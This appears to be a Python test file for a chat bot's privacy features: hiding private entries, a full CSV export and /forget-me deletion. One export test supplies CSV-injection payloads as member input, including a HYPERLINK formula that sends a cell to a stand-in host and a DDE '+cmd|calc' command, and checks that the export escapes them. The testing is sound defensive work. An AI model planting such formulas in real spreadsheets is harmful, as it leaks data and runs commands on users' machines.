"""Privacy: private text never reaches another member, /export gives a member all their own
data, /forget-me leaves nothing of them behind."""

import csv
import io
from datetime import datetime

from bot.app import App
from bot.reply import Attachment
from tests.helpers import COMMUNITY, caller, press, run


def text(reply) -> str:
    return reply.plain_text()


async def test_private_text_never_reaches_another_member(app, clock):
    secret = "asked my landlord for rent relief"
    outputs = [await run(app, f"/rejected {secret} who:landlord lesson:\"be bold\" private:true",
                         who="sam")]
    outputs += [await run(app, line, who="ana") for line in (
        "/leaderboard", "/leaderboard period:all by:rejections", "/stats member:sam", "/asks")]
    for reply in outputs:
        body = text(reply)
        assert "landlord" not in body and "rent relief" not in body and "be bold" not in body
    # the attempt still counts everywhere
    assert "@sam · 1" in text(outputs[1])


async def test_export_is_a_complete_parsable_csv(app, clock):
    await run(app, '/rejected asked for a raise who:"my boss, Jo" area:work fear:7 lesson:"ask, then wait"')
    await run(app, "/accepted they said yes, finally private:true")
    await run(app, "/who-next ask Lee when:tomorrow")
    await run(app, "/goal 50")
    await run(app, "/rejected not mine", who="sam")
    reply = await run(app, "/export")
    assert reply.private and len(reply.attachments) == 1
    attachment: Attachment = reply.attachments[0]
    assert attachment.mime == "text/csv" and attachment.filename.endswith(".csv")
    rows = list(csv.DictReader(io.StringIO(attachment.data.decode("utf-8"))))
    assert [r["type"] for r in rows] == ["attempt", "attempt", "commitment", "goal", "settings"]
    assert rows[0]["ask"] == "asked for a raise" and rows[0]["who"] == "my boss, Jo"
    assert rows[0]["lesson"] == "ask, then wait" and rows[0]["fear"] == "7"
    assert rows[1]["ask"] == "they said yes, finally" and rows[1]["private"] == "yes"
    assert rows[2]["ask"] == "ask Lee" and rows[2]["status"] == "open"
    assert rows[2]["zone"] == "UTC"  # the zone its day is reckoned in
    assert rows[3]["target"] == "50" and rows[3]["since"].startswith(clock.now().date().isoformat())
    await run(app, "/goal 50 since:start")
    again = list(csv.DictReader(io.StringIO((await run(app, "/export")).attachments[0].data
                                            .decode("utf-8"))))
    assert again[3]["since"] == "start"
    await run(app, '/pause until:2026-12-20 reason:"winter break"')
    dared = await run(app, "/dare")
    rows = list(csv.DictReader(io.StringIO((await run(app, "/export")).attachments[0].data
                                           .decode("utf-8"))))
    (pause,) = [r for r in rows if r["type"] == "pause"]
    assert pause["until"] == "2026-12-20" and pause["reason"] == "winter break"
    (dare,) = [r for r in rows if r["type"] == "dare"]
    assert dare["ask"] and dare["ask"] in dared.plain_text()
    await run(app, "/remind time:18:30 days:weekdays")
    rows = list(csv.DictReader(io.StringIO((await run(app, "/export")).attachments[0].data
                                           .decode("utf-8"))))
    (nudge,) = [r for r in rows if r["type"] == "remind"]
    assert (nudge["time"], nudge["days"]) == ("18:30", "mon,tue,wed,thu,fri")
    assert nudge["due"].startswith(clock.now().date().isoformat()) and not nudge["status"]
    await run(app, "/timezone Europe/Lisbon")
    await run(app, "/reminders off")
    rows = list(csv.DictReader(io.StringIO((await run(app, "/export")).attachments[0].data
                                           .decode("utf-8"))))
    (settings,) = [r for r in rows if r["type"] == "settings"]
    assert (settings["zone"], settings["reminders"]) == ("Europe/Lisbon", "off")
    assert all("not mine" not in v for r in rows for v in r.values())


async def test_the_export_has_the_cheers_received_and_when_each_was_given(app, clock):
    mine = await run(app, "/rejected asked for a raise")
    theirs = await run(app, "/rejected sams secret ask private:true", who="sam")
    await press(app, mine.buttons()[0].action, who="sam")
    await press(app, mine.buttons()[0].action, who="kim")
    clock.advance(minutes=3)
    await press(app, theirs.buttons()[0].action)
    rows = list(csv.DictReader(io.StringIO((await run(app, "/export")).attachments[0].data
                                           .decode("utf-8"))))
    (attempt,) = [r for r in rows if r["type"] == "attempt"]
    assert attempt["cheers"] == "2"
    (given,) = [r for r in rows if r["type"] == "cheer given"]
    assert datetime.fromisoformat(given["date"]) == clock.now()
    assert all("secret" not in v for r in rows for v in r.values())


async def test_the_export_keeps_text_that_would_start_a_formula_as_text(app):
    """Opened in a spreadsheet, a member's text stays text: a cell that would start a formula
    gets a leading apostrophe (OWASP's advice for CSV injection); other text is as typed."""
    await run(app, '/rejected =HYPERLINK("http://x.test/?"&A1,"click") who:"@SUM(1+1)" '
                   'lesson:"+cmd|calc!A0"')
    await run(app, "/accepted -2+3 who:my-boss")
    await run(app, '/pause until:2026-12-20 reason:"=cmd()"')
    rows = list(csv.DictReader(io.StringIO((await run(app, "/export")).attachments[0].data
                                           .decode("utf-8"))))
    first, second = rows[0], rows[1]
    assert first["ask"] == "'=HYPERLINK(\"http://x.test/?\"&A1,\"click\")"
    assert (first["who"], first["lesson"]) == ("'@SUM(1+1)", "'+cmd|calc!A0")
    assert (second["ask"], second["who"]) == ("'-2+3", "my-boss")
    (pause,) = [r for r in rows if r["type"] == "pause"]
    assert pause["reason"] == "'=cmd()"
    assert all(not v.startswith(("=", "+", "-", "@")) for r in rows for v in r.values())


TABLES = {"sqlite": "SELECT name FROM sqlite_master WHERE type = 'table'",
          "postgresql": "SELECT tablename FROM pg_tables WHERE schemaname = current_schema()"}


async def rows_mentioning(repo, needle: str) -> list[tuple[str, tuple]]:
    """Every row of every table (whatever the backend has) with ``needle`` in a text column."""
    def unit(tx):
        found = []
        for (table,) in tx.execute(TABLES[tx.backend]).fetchall():
            for row in tx.execute(f"SELECT * FROM {table}").fetchall():
                if any(isinstance(v, str) and needle in v for v in row):
                    found.append((table, tuple(row)))
        return found
    return await repo._read(unit)


async def test_forget_me_leaves_nothing_behind(reopen, clock):
    repo = await reopen()
    app = App(repo, clock, max_logs_per_hour=1000)
    mine = (await run(app, "/rejected my ask")).buttons()[0].action
    theirs = (await run(app, "/rejected their ask", who="sam")).buttons()[0].action
    await press(app, theirs)  # a cheer given
    await press(app, mine, who="sam")  # a cheer received
    await run(app, "/who-next ask Lee")
    await run(app, "/pending waiting on it")
    await run(app, "/goal 10")
    assert not (await run(app, '/pause until:friday reason:"a secret trip"')).error
    assert not (await run(app, "/dare")).error
    assert not (await run(app, "/remind 18:00")).error
    assert await rows_mentioning(repo, "a secret trip")
    assert await rows_mentioning(repo, "console:ana")
    confirm = (await run(app, "/forget-me")).buttons()[0].action
    assert (await press(app, confirm, who="sam")).error  # nobody else can confirm
    assert await rows_mentioning(repo, "console:ana")
    done = await press(app, confirm)
    assert not done.error
    await repo.close()
    repo = await reopen()
    assert await rows_mentioning(repo, "console:ana") == []
    assert await rows_mentioning(repo, "my ask") == []
    assert await rows_mentioning(repo, "a secret trip") == []
    assert await rows_mentioning(repo, "their ask")  # sam's data is untouched
    assert (await repo.totals(COMMUNITY, caller("sam").member)).attempts == 1
    board = await repo.leaderboard(COMMUNITY, None, "attempts", caller("sam").member)
    assert [r.name for r in board.top] == ["sam"]
